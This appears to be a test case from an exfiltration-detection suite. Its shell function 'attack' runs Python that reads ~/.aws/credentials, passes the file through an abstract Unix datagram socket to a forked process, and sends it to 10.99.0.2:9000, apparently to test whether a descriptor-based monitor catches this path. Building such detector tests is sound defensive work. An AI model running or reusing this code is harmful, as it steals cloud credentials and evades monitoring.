# SPDX-License-Identifier: Apache-2.0
COVERAGE=full WHY="a socket that is only named is not found by a descriptor"
TITLE="unix datagrams to an abstract name, to a sender that waits before the secret is read"
ROW="I07"
attack() {
	python3 - <<-'END'
	import os, socket, time
	name = b'\0egret-test-%d' % os.getpid()
	theirs = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
	theirs.bind(name)
	if os.fork() == 0:
	    data = theirs.recv(4096)
	    socket.create_connection(('10.99.0.2', 9000), 5).sendall(data)
	    os._exit(0)
	time.sleep(0.3)
	ours = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
	ours.sendto(open(os.path.expanduser('~/.aws/credentials'), 'rb').read(), name)
	os.wait()
	END
}
